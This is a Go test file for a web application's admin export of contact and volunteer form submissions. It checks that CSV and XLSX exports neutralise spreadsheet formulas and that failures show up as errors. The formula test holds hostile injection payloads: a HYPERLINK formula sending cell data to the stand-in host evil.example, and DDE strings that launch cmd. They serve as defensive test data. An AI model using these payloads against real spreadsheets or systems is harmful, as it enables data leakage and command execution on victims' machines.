package forms_test

import (
	"encoding/csv"
	"gerege/app"
	"gerege/app/apitest"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// deskLogin signs in a new forms-desk account of level staff (2 sees sensitive fields).
func deskLogin(t *testing.T, s *app.Server, ts interface{ Close() }, url, email string, staff int) *http.Client {
	t.Helper()
	c := staffClient(t, s, ts, url, email, false, staff)
	res, err := c.Post(url+"/api/web/auth/login", "application/json",
		strings.NewReader(`{"email":"`+email+`","password":"correct horse battery"}`))
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("login %s: %d", email, res.StatusCode)
	}
	return c
}

// TestExportNeutralisesFormulas: values a spreadsheet would run as a formula (=, +, -, @)
// are exported to CSV with a leading single quote (OWASP), the rest of the value kept; a
// plain number such as a phone number stays as it is. In XLSX every value is a string cell,
// never a formula.
func TestExportNeutralisesFormulas(t *testing.T) {
	t.Parallel()
	s, ts := apitest.NewServer(t)
	hostile := map[string]string{
		"firstName":    `=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
		"lastName":     "@SUM(1+1)*cmd|' /C calc'!A0",
		"businessName": "+1+cmd|' /C calc'!A0",
		"description":  "-2+3",
		"phoneNumber":  "+97688112233",
	}
	body := map[string]any{"email": "evil@example.mn"}
	for k, v := range hostile {
		body[k] = v
	}
	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/contact", body, ""), 201)
	desk := deskLogin(t, s, ts, ts.URL, "desk@example.mn", 1)

	res := apitest.Do(t, ts, "GET", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
	if res.Status != 200 {
		t.Fatalf("csv: %d %s", res.Status, res.Raw)
	}
	recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.Raw, "\uFEFF"))).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("csv: %v, %d rows", err, len(recs))
	}
	col := map[string]int{}
	for i, h := range recs[0] {
		col[h] = i
	}
	for field, v := range hostile {
		want := "'" + v
		if field == "phoneNumber" {
			want = v // a number, not a formula
		}
		if got := recs[1][col[field]]; got != want {
			t.Errorf("csv %s = %q, want %q", field, got, want)
		}
	}

	// A HEAD answers like the GET but is not recorded as an export.
	exports := func() (n int) {
		s.Store().Read.QueryRow(`SELECT count(*) FROM audit_log WHERE event = 'submissions.exported'`).Scan(&n)
		return n
	}
	before := exports()
	if h := apitest.Do(t, ts, "HEAD", "/api/admin/forms/contact/export.csv", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)}); h.Status != 200 ||
		h.Header.Get("Content-Disposition") == "" || exports() != before {
		t.Errorf("HEAD export: %d %q, audited %d→%d", h.Status, h.Header.Get("Content-Disposition"), before, exports())
	}

	x := apitest.Do(t, ts, "GET", "/api/admin/forms/contact/export.xlsx", "", map[string]string{"Cookie": cookieOf(desk, ts.URL)})
	if x.Status != 200 {
		t.Fatalf("xlsx: %d", x.Status)
	}
	f, err := excelize.OpenReader(strings.NewReader(x.Raw))
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Sheet1")
	if err != nil || len(rows) != 2 {
		t.Fatalf("xlsx rows: %v %d", err, len(rows))
	}
	for i, h := range rows[0] {
		v, ok := hostile[h]
		if !ok {
			continue
		}
		cell, _ := excelize.CoordinatesToCellName(i+1, 2)
		got, _ := f.GetCellValue("Sheet1", cell)
		formula, _ := f.GetCellFormula("Sheet1", cell)
		typ, _ := f.GetCellType("Sheet1", cell)
		if got != v || formula != "" || typ == excelize.CellTypeFormula {
			t.Errorf("xlsx %s: value %q formula %q type %v; want the text %q and no formula", h, got, formula, typ, v)
		}
	}
}

// get reads a whole answer and reports whether the body arrived complete.
func getFull(t *testing.T, c *http.Client, url string) (*http.Response, string, error) {
	t.Helper()
	res, err := c.Get(url)
	if err != nil {
		return nil, "", err
	}
	defer res.Body.Close()
	b, err := io.ReadAll(res.Body)
	return res, string(b), err
}

// TestExportFailuresAreVisible: bad search input is a localized 422 on the field (never a
// 500, never an empty export); a failure before the export started is a real error answer
// without the attachment headers; a failure in the middle breaks the download so it cannot
// be mistaken for a complete file.
func TestExportFailuresAreVisible(t *testing.T) {
	t.Parallel()
	s, ts := apitest.NewServer(t)
	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/volunteer", apitest.VolunteerBody("Сараа", "saraa@example.mn"), ""), 201)
	sens := deskLogin(t, s, ts, ts.URL, "sens@example.mn", 2)

	base := "/api/admin/forms/volunteer/"
	for _, p := range []string{"submissions", "export.csv", "export.xlsx"} {
		for _, q := range []string{"abc%00", "%00", "ab%01c", "%FF%FEabc"} {
			r := apitest.Call(t, sens, ts, "GET", base+p+"?q="+q, nil, "", "Accept-Language", "mn")
			if r.Status != 422 || r.Str("errors", "q") != "Энд ашиглах боломжгүй тэмдэгт орсон байна." || r.Header.Get("Content-Disposition") != "" {
				t.Errorf("%s?q=%s: %d %s %q", p, q, r.Status, r.Raw, r.Header.Get("Content-Disposition"))
			}
		}
		for _, q := range []string{"country=%00", "after=%00|1", "status=%00", "from=%00", "sort=%00"} {
			if r := apitest.Call(t, sens, ts, "GET", base+p+"?"+q, nil, ""); r.Status >= 500 {
				t.Errorf("%s?%s: %d %s", p, q, r.Status, r.Raw)
			}
		}
	}

	// An early failure (the first row cannot be opened): the real status, no file.
	s.Store().Write.Exec(`UPDATE submissions SET sensitive = x'00'`)
	for _, p := range []string{"export.csv", "export.xlsx"} {
		res, body, err := getFull(t, sens, ts.URL+base+p)
		if err != nil || res.StatusCode != 500 || res.Header.Get("Content-Disposition") != "" ||
			!strings.Contains(body, `"code":"internal"`) {
			t.Errorf("%s with an unreadable row: %v %d %q %.200s", p, err, res.StatusCode, res.Header.Get("Content-Disposition"), body)
		}
	}

	// A failure in the middle: enough rows that the export is under way, the last unreadable.
	s.Store().Write.Exec(`DELETE FROM submissions_search`)
	s.Store().Write.Exec(`DELETE FROM submissions`)
	apitest.MustStatus(t, apitest.Call(t, nil, ts, "POST", "/api/forms/volunteer", apitest.VolunteerBody("Болд", "bold@example.mn"), ""), 201)
	if _, err := s.Store().Write.Exec(`WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 1000)
		INSERT INTO submissions (form, reference, lang, name, email, country, data, sensitive, created_at, updated_at)
		SELECT form, reference || '-' || i, lang, name, email, country, data, sensitive, created_at, updated_at FROM submissions, n`); err != nil {
		t.Fatal(err)
	}
	s.Store().Write.Exec(`UPDATE submissions SET sensitive = x'00' WHERE id = (SELECT max(id) FROM submissions)`)
	res, body, err := getFull(t, sens, ts.URL+base+"export.csv")
	if err == nil {
		t.Errorf("a CSV export that failed midway arrived as a complete file: %d, %d bytes", res.StatusCode, len(body))
	}
	// XLSX is built whole first: the same failure is a real error answer.
	res, body, err = getFull(t, sens, ts.URL+base+"export.xlsx")
	if err != nil || res.StatusCode != 500 || res.Header.Get("Content-Disposition") != "" {
		t.Errorf("xlsx failing midway: %v %d %.200s", err, res.StatusCode, body)
	}
	// And without the broken row, both are complete files of every row.
	s.Store().Write.Exec(`DELETE FROM submissions WHERE id = (SELECT max(id) FROM submissions)`)
	res, body, err = getFull(t, sens, ts.URL+base+"export.csv")
	if err != nil || res.StatusCode != 200 || res.Header.Get("Content-Disposition") == "" {
		t.Fatalf("csv: %v %d", err, res.StatusCode)
	}
	if recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(body, "\uFEFF"))).ReadAll(); err != nil || len(recs) != 1001 {
		t.Errorf("csv rows: %v %d", err, len(recs))
	}
	res, body, err = getFull(t, sens, ts.URL+base+"export.xlsx")
	if err != nil || res.StatusCode != 200 {
		t.Fatalf("xlsx: %v %d", err, res.StatusCode)
	}
	x, err := excelize.OpenReader(strings.NewReader(body))
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if rows, err := x.GetRows("Sheet1"); err != nil || len(rows) != 1001 {
		t.Errorf("xlsx rows: %v %d", err, len(rows))
	}
}
